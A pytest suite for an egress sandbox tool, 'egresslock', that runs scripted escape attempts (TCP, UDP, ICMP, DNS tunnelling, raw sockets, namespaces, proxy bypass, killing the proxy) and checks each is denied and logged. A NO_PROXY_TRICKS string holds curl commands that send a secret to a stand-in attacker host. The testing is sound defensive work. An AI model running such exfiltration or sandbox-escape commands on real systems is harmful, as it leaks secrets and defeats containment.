"""The escape suite of issue 5: a program inside ``egresslock run`` actively tries to get out.

Each attempt is a small script in tests/sandbox/escapes/, run inside the sandbox of the test
world (tests/sandbox/world.py), in two modes: ``egresslock run`` started by root (the command
runs as nobody) and started by an unprivileged user (uid 65534, through setpriv). For each:
the attempt fails, the layer that can log it wrote an audit row (TCP, UDP, ICMP, DNS), syscall
refusals show as errors in the script's output, and the attacker's servers, its nftables
counters and the host relay socket received nothing.
"""

from __future__ import annotations

import json
import time

import pytest

from tests.sandbox.conftest import World, WorldRun, assert_warm, escape_command
from tests.sandbox.world import ATTACKER, ATTACKER6, RESOLVER, SECRET

pytestmark = pytest.mark.timeout(120)

# "warm": started by root through a warm server (egresslock warm serve), which must hold the
# sandbox exactly as a cold run does.
MODES = ["root", "unprivileged", "warm"]
REFUSED = {"EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ENOSYS", "ENOENT"}
DNS_REFUSED, DNS_NXDOMAIN = 5, 3


def run_escape(world: World, mode: str, script: str, *args: str, **scenario: object) -> WorldRun:
    run = world(escape_command(script, *args), unprivileged=(mode == "unprivileged"),
                warm=(mode == "warm"), **scenario)
    if mode == "warm":
        assert_warm(run)
    return run



def results(run: WorldRun) -> dict[str, dict[str, object]]:
    assert run.exit == 0, run.describe()
    return run.json_stdout()


def assert_all_failed(out: dict[str, dict[str, object]], run: WorldRun,
                      allowed_errnos: set[str] = REFUSED) -> None:
    for name, res in out.items():
        assert not res["ok"], f"{name} succeeded: {res}\n{run.describe()}"
        assert res["errno"] in allowed_errnos or "exited" in str(res["detail"]), \
            f"{name} failed oddly: {res}"


def test_control_without_egresslock_the_attacker_records(world: World) -> None:
    # The control: the same attempts without egresslock reach the attacker, so a silent attacker
    # in the other tests means the sandbox stopped them, not that the recorders are deaf.
    run = world(escape_command("tcp_direct.py", SECRET), bare=True)
    assert f"{ATTACKER}:9999" in str(run.attacker_received()), run.describe()
    assert SECRET in json.dumps(run.attacker_received())


@pytest.mark.parametrize("mode", MODES)
def test_direct_tcp_to_an_ip_is_denied_and_logged(world: World, mode: str) -> None:
    run = run_escape(world, mode, "tcp_direct.py", SECRET)
    out = results(run)
    for name, res in out.items():  # transparent capture: accepted by the proxy, then refused
        assert SECRET not in str(res["detail"]), f"{name}: {res}"
        assert '"method"' not in str(res["detail"]), f"{name} reached the upstream: {res}"
    run.assert_nothing_escaped()
    for port in (9999, 8080, 443, 80):
        denied = [r for r in run.rows(verdict="deny")
                  if r.get("port") == port and ATTACKER in (r.get("address"), r.get("host"))]
        assert denied, f"no deny row for {ATTACKER}:{port}\n{run.describe()}"
    v6 = [r for r in run.rows(verdict="deny") if r.get("port") == 9999
          and ATTACKER6 in f"{r.get('host')} {r.get('address')}"]
    assert v6, run.describe()
    assert not run.upstream, f"a spoofed Host reached the real app.test: {run.upstream}"


@pytest.mark.parametrize("mode", MODES)
def test_udp_is_dropped_and_logged(world: World, mode: str) -> None:
    run = run_escape(world, mode, "udp_direct.py", SECRET)
    out = results(run)
    assert_all_failed(out, run)
    run.assert_nothing_escaped()
    drops = run.rows("drop", "deny", protocol="udp")
    assert {r.get("address") for r in drops} >= {ATTACKER, ATTACKER6}, run.describe()
    assert all(r.get("port") == 9999 and r.get("uid") == 65534 for r in drops), run.describe()


@pytest.mark.parametrize("mode", MODES)
def test_icmp_ping_gets_nowhere(world: World, mode: str) -> None:
    run = run_escape(world, mode, "icmp_ping.py")
    out = results(run)
    run.assert_nothing_escaped()
    assert run.attacker["counters"]["attacker_icmp"] == 0
    # A raw socket is refused outright; a ping socket may exist (ping_group_range), but what it
    # sends is dropped and logged.
    assert not out["icmp-raw"]["ok"], out
    assert out["icmp-raw"]["errno"] == "EPERM", out
    if out["icmp-dgram"]["ok"]:
        assert run.rows("drop", "deny", address=ATTACKER), run.describe()
    else:
        assert out["icmp-dgram"]["errno"] in REFUSED, out


@pytest.mark.parametrize("mode", MODES)
def test_dns_to_an_outside_resolver_is_answered_by_the_stub(world: World, mode: str) -> None:
    run = run_escape(world, mode, "dns_outside.py")
    out = results(run)
    for proto in ("udp", "tcp"):
        assert out[f"denied-{proto}"]["ok"], (out, run.describe())
        assert f"'rcode': {DNS_REFUSED}" in str(out[f"denied-{proto}"]["detail"]) or \
            f"'rcode': {DNS_NXDOMAIN}" in str(out[f"denied-{proto}"]["detail"]), out
        assert "'answers': 1" in str(out[f"allowed-{proto}"]["detail"]), out
        denied = run.rows("dns", "deny", host="exfil.evil.test", protocol=proto)
        assert denied, run.describe()
    run.assert_nothing_escaped()
    assert not run.attacker["udp"][f"{RESOLVER}:53"]["bytes"]


@pytest.mark.parametrize("mode", MODES)
def test_dns_with_a_secret_in_labels_is_refused_and_scored(world: World, mode: str) -> None:
    run = run_escape(world, mode, "dns_secret.py", SECRET)
    out = results(run)
    for name in ("plain", "hex", "base32", "outside-hex"):
        detail = str(out[name]["detail"])
        assert out[name]["ok"], (name, out)
        assert "'answers': 0" in detail, (name, out)
    denied = [r for r in run.rows("dns", "deny") if r.get("host", "").endswith("evil.test")]
    assert len(denied) >= 4, run.describe()
    for row in denied:
        extra = row.get("extra") or {}
        assert extra.get("score", 0) > 0, f"no score on {row}"
    secret_rows = [r for r in denied if "secret" in json.dumps(r.get("extra") or {}).lower()]
    assert secret_rows, f"no row says a secret was carried: {denied}"
    run.assert_nothing_escaped()


@pytest.mark.parametrize("mode", MODES)
def test_raw_packet_vsock_and_netlink_sockets_are_refused(world: World, mode: str) -> None:
    run = run_escape(world, mode, "raw_sockets.py")
    out = results(run)
    assert_all_failed(out, run)
    for name in ("raw-inet-tcp", "raw-inet-raw", "raw-inet6-udp"):
        assert out[name]["errno"] == "EPERM", out
    for name in ("packet-raw", "packet-dgram", "vsock-stream", "vsock-dgram", "netlink-route",
                 "netlink-netfilter"):
        assert out[name]["errno"] in {"EAFNOSUPPORT", "EPERM"}, out
    run.assert_nothing_escaped()


@pytest.mark.parametrize("mode", MODES)
def test_route_address_and_nftables_changes_fail(world: World, mode: str) -> None:
    run = run_escape(world, mode, "net_config.py")
    out = results(run)
    for name in ("ip-route-add", "ip-addr-add", "nft-add-table", "nft-flush"):
        assert not out[name]["ok"], (name, out, run.describe())
    run.assert_nothing_escaped()


@pytest.mark.parametrize("mode", MODES)
def test_namespaces_ptrace_and_io_uring_are_refused(world: World, mode: str) -> None:
    run = run_escape(world, mode, "namespaces.py")
    out = results(run)
    assert_all_failed(out, run)
    for name in ("unshare-net", "unshare-user-net", "unshare-mount", "setns-self",
                 "ptrace-attach", "ptrace-seize", "io_uring_setup"):
        assert out[name]["errno"] == "EPERM", (name, out)
    # setns into egresslock's namespace: refused at open (not ours) or at setns (seccomp).
    assert out["setns-parent"]["errno"] in {"EPERM", "EACCES"}, out
    run.assert_nothing_escaped()


@pytest.mark.parametrize("mode", MODES)
def test_host_relay_unix_sockets_are_out_of_reach(world: World, mode: str) -> None:
    run = run_escape(world, mode, "unix_relay.py")
    out = results(run)
    relays = run.raw["relay_paths"]
    for path in relays:
        res = out[f"connect:{path}"]
        assert not res["ok"], out
        assert res["errno"] in {"ENOENT", "ECONNREFUSED", "EACCES"}, out
    assert not out["ssh-auth-sock"]["ok"], "SSH_AUTH_SOCK reached the command"
    if mode == "warm":  # abstract, so only in the host's network namespace
        assert out["connect:warm-server"]["errno"] == "ECONNREFUSED", out
    assert "egresslock-relay" not in str(out["listdir-run"]["detail"]), out
    assert all(not e["connections"] for e in run.attacker["unix"].values()), run.attacker
    run.assert_nothing_escaped()


NO_PROXY_TRICKS = (
    "NO_PROXY='*' curl -sS -m 5 http://203.0.113.5:8080/nop?k=$1; echo rc=$?; "
    "no_proxy='*' curl -sS -m 5 http://203.0.113.5/np2; echo rc=$?; "
    "curl -sS -m 5 --noproxy '*' http://203.0.113.5:9999/flag?k=$1; echo rc=$?; "
    "curl -sS -m 5 --noproxy '*' http://evil.test/; echo rc=$?; "
    "env -u HTTP_PROXY -u http_proxy curl -sS -m 5 http://[2001:db8::5]:9999/v6; echo rc=$?; "
    "echo NO_PROXY=${NO_PROXY:-unset}"
)


@pytest.mark.parametrize("mode", MODES)
def test_no_proxy_tricks_meet_transparent_capture(world: World, mode: str) -> None:
    run = world(["sh", "-c", NO_PROXY_TRICKS, "sh", SECRET],
                unprivileged=(mode == "unprivileged"), warm=(mode == "warm"))
    if mode == "warm":
        assert_warm(run)
    assert "NO_PROXY=unset" in run.stdout, run.describe()
    assert "rc=0" not in run.stdout or "egresslock: denied" in run.stdout, run.describe()
    run.assert_nothing_escaped()
    denied_ports = {r.get("port") for r in run.rows(verdict="deny")}
    assert {8080, 80, 9999} <= denied_ports, run.describe()
    assert run.rows(verdict="deny", host="evil.test") or run.rows("dns", "deny",
                                                                   host="evil.test")


@pytest.mark.parametrize("mode", MODES)
def test_killing_the_proxy_leaves_no_way_out(world: World, mode: str) -> None:
    run = run_escape(world, mode, "kill_proxy.py", linger=3.0, timeout=20)
    report_file = run.workdir / "kill_proxy.json"
    for _ in range(50):  # the grandchild writes it after egresslock is gone
        if report_file.exists():
            break
        time.sleep(0.05)
    assert report_file.exists(), run.describe()
    after = json.loads(report_file.read_text())
    if mode in ("root", "warm"):  # egresslock (or its warm worker) is root's, the command not
        assert '"kill": {"ok": false, "errno": "EPERM"' in run.stdout, run.describe()
    else:
        assert not after["proxy_alive"], (after, run.describe())
        assert run.exit in (137, -9), run.describe()
        res = after["results"]
        for name in ("tcp4:9999", "proxy-port", "udp4:9999", "dns"):
            assert not res[name]["ok"] or res[name]["detail"] == "b''", (name, res)
    run.assert_nothing_escaped()
